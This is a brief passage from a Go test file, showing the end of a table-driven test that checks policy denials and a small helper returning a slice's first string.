			requireDenied(t, err, tt.policy, tt.message)
			t.Logf("denied: %v", err)
		})
	}
}

func first(s []string) string {
	if len(s) == 0 {
		return ""
	}
	return s[0]
}
